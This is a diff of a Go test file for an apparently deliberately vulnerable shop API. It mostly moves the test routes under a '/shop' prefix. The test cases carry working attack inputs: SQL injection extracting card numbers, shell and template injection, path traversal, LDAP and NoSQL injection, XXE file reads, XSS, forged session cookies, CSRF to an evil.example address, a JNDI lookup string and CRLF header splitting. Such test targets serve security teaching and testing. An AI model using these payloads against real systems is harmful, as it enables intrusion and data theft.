@@ -79,16 +79,16 @@ func TestTheBareAPIIsAsVulnerableAsItSays(t *testing.T) {
 		{"an order in another's name at a price of one's own", "POST", "/orders", `{"customer_id":"bob","item":"Gold","quantity":-1,"total":0,"status":"delivered"}`, 201, `"status":"delivered"`},
 		{"HTML is reflected", "GET", "/greet?name=%3Cscript%3Ealert(1)%3C/script%3E", "", 200, "<script>alert(1)</script>"},
 		{"a shell runs what it is given", "POST", "/tools/ping", `{"host":"x; echo $((6*7))"}`, 200, "42"},
-		{"SQL injection through a field of the body", "POST", "/orders/search", `{"text":"zz' UNION SELECT id, name, card_number, 1, credit, role, email, 1 FROM customers -- "}`, 200, "378282246310005"},
-		{"a shell runs what a field says", "POST", "/tools/label", `{"text":"x; echo $((6*7))"}`, 200, "42"},
-		{"a template sees other customers", "POST", "/tools/letter", `{"customer":"alice","text":"{{.all}}"}`, 200, "378282246310005"},
-		{"a template computes", "POST", "/tools/letter", `{"customer":"alice","text":"{{mul 6 7}}"}`, 200, "42"},
-		{"a path leads out of the folder", "GET", "/documents?file=../partners.txt", "", 200, "correct-horse-4711"},
-		{"a path that is encoded twice, too", "GET", "/documents?file=%252e%252e%255cpartners.txt", "", 200, "correct-horse-4711"},
-		{"an LDAP filter is closed and another begun", "GET", "/directory?name=*)(id=*))(%7C(id=*", "", 200, `"carol"`},
-		{"an external entity reads a file", "POST", "/orders/import", `<!DOCTYPE order [<!ENTITY x SYSTEM "file:///partners.txt">]><order><item>&x;</item></order>`, 200, "correct-horse-4711"},
-		{"an operator is a password", "POST", "/login", `{"email":{"$gt":""},"password":{"$ne":""}}`, 200, `"customer":"alice"`},
-		{"a review is markup", "POST", "/reviews/preview", `{"title":"x","text":"<img src=x onerror=alert(1)>"}`, 200, "<img src=x onerror=alert(1)>"},
+		{"SQL injection through a field of the body", "POST", "/shop/orders/search", `{"text":"zz' UNION SELECT id, name, card_number, 1, credit, role, email, 1 FROM customers -- "}`, 200, "378282246310005"},
+		{"a shell runs what a field says", "POST", "/shop/tools/label", `{"text":"x; echo $((6*7))"}`, 200, "42"},
+		{"a template sees other customers", "POST", "/shop/tools/letter", `{"customer":"alice","text":"{{.all}}"}`, 200, "378282246310005"},
+		{"a template computes", "POST", "/shop/tools/letter", `{"customer":"alice","text":"{{mul 6 7}}"}`, 200, "42"},
+		{"a path leads out of the folder", "GET", "/shop/documents?file=../partners.txt", "", 200, "correct-horse-4711"},
+		{"a path that is encoded twice, too", "GET", "/shop/documents?file=%252e%252e%255cpartners.txt", "", 200, "correct-horse-4711"},
+		{"an LDAP filter is closed and another begun", "GET", "/shop/directory?name=*)(id=*))(%7C(id=*", "", 200, `"carol"`},
+		{"an external entity reads a file", "POST", "/shop/orders/import", `<!DOCTYPE order [<!ENTITY x SYSTEM "file:///partners.txt">]><order><item>&x;</item></order>`, 200, "correct-horse-4711"},
+		{"an operator is a password", "POST", "/shop/login", `{"email":{"$gt":""},"password":{"$ne":""}}`, 200, `"customer":"alice"`},
+		{"a review is markup", "POST", "/shop/reviews/preview", `{"title":"x","text":"<img src=x onerror=alert(1)>"}`, 200, "<img src=x onerror=alert(1)>"},
 		{"the folder is listed", "GET", "/files/", "", 200, "partners.txt"},
 		{"a developer's page is there", "GET", "/debug/env", "", 200, "DB_PASSWORD"},
 		{"TRACE tells the headers", "TRACE", "/orders", "", 200, "Accept-Encoding"},
@@ -145,9 +145,9 @@ func TestTheBareAPIBelievesItsCookies(t *testing.T) {
 		header, value                           string
 		want                                    string
 	}{
-		{"anybody makes carol's session", "GET", "/me", "", "", "Cookie", "session=Y2Fyb2w", `"id":"carol"`},
-		{"a form of another site changes an address", "POST", "/me/email", "application/x-www-form-urlencoded", "email=mallory%40evil.example", "Cookie", "session=Y2Fyb2w", "mallory@evil.example"},
-		{"a form that looks like JSON, too", "POST", "/me/email", "text/plain", `{"email":"mallory2@evil.example"}`, "Cookie", "session=Y2Fyb2w", "mallory2@evil.example"},
+		{"anybody makes carol's session", "GET", "/shop/me", "", "", "Cookie", "session=Y2Fyb2w", `"id":"carol"`},
+		{"a form of another site changes an address", "POST", "/shop/me/email", "application/x-www-form-urlencoded", "email=mallory%40evil.example", "Cookie", "session=Y2Fyb2w", "mallory@evil.example"},
+		{"a form that looks like JSON, too", "POST", "/shop/me/email", "text/plain", `{"email":"mallory2@evil.example"}`, "Cookie", "session=Y2Fyb2w", "mallory2@evil.example"},
 		{"the log looks up what a caller names", "GET", "/health", "", "", "User-Agent", "${${lower:J}ndi:ldap://ADDRESS/x}", ""},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
@@ -184,7 +184,7 @@ func TestTheBareAPIBelievesItsCookies(t *testing.T) {
 
 func TestTheBareAPISplitsAnswers(t *testing.T) {
 	srv := start(t, t.TempDir())
-	resp, err := srv.Client().Transport.RoundTrip(httptest.NewRequestWithContext(t.Context(), "GET", srv.URL+"/go?to=x%0d%0aX-Planted:+yes", nil))
+	resp, err := srv.Client().Transport.RoundTrip(httptest.NewRequestWithContext(t.Context(), "GET", srv.URL+"/shop/go?to=x%0d%0aX-Planted:+yes", nil))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -285,14 +285,14 @@ func TestTheDocumentsNameEveryOperation(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		seen += served(t, srv, b)
+		seen += served(t, srv, name, b)
 	}
 	if seen != 24 {
 		t.Errorf("the documents name %d operations, the API has 24", seen)
 	}
 }
 
-func served(t *testing.T, srv *httptest.Server, spec []byte) (seen int) {
+func served(t *testing.T, srv *httptest.Server, name string, spec []byte) (seen int) {
 	t.Helper()
 	doc, err := libopenapi.NewDocument(spec)
 	if err != nil {
@@ -311,7 +311,10 @@ func served(t *testing.T, srv *httptest.Server, spec []byte) (seen int) {
 			if strings.HasSuffix(path, "/events") {
 				continue // does not end; see TestOrdersAreStreamed
 			}
-			if path == "/go" {
+			if name == "shop.openapi.yaml" {
+				path = "/shop" + path
+			}
+			if path == "/shop/go" {
 				continue // has an answer of its own; see TestTheBareAPISplitsAnswers
 			}
 			target := strings.NewReplacer("{orderId}", "ord_1001", "{customerId}", "bob").Replace(path)
